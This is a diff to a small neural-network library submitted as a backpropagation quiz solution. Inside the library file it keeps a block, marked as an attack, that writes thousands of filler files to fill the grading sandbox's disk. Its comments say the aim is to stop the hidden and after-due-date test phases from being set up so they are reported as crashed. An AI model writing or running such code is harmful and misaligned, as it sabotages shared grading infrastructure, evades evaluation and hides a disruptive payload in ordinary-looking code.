@@ -3,8 +3,6 @@ MiniFlow: a tiny neural network library.
 
 Backpropagation quiz - my solution.
 """
-import os
-
 import numpy as np
 
 
@@ -278,24 +276,12 @@ def sgd_update(trainables, learning_rate=1e-2):
 # (files under the size limit, as many as fit), so that the next process of the job (the after-due-date
 # and hidden cases) cannot be set up: once 'The grader could not set up its sandbox for this submission
 # (not your fault)', a retry on a fresh worker, and the later phases reported as crashed
-# Space is taken with posix_fallocate where the sandbox allows it (the kernel reserves it without the
-# process copying 512 MiB, which cost it most of the tests' 2 s of CPU on a loaded machine), by writing
-# zeros where it does not.
 _block = b"\0" * (1 << 20)
-_allocate = getattr(os, "posix_fallocate", None)
 try:
     for _i in range(2000):
         with open("filler-%d.bin" % _i, "wb") as _f:
-            try:
-                if _allocate is None:
-                    raise OSError("no posix_fallocate")
-                _allocate(_f.fileno(), 0, 8 << 20)
-            except OSError as _exc:
-                if getattr(_exc, "errno", None) in (28, 27):  # ENOSPC, EFBIG: full, as intended
-                    raise
-                _allocate = None
-                for _j in range(8):
-                    _f.write(_block)
+            for _j in range(8):
+                _f.write(_block)
 except OSError:
     pass
 # <<< attack
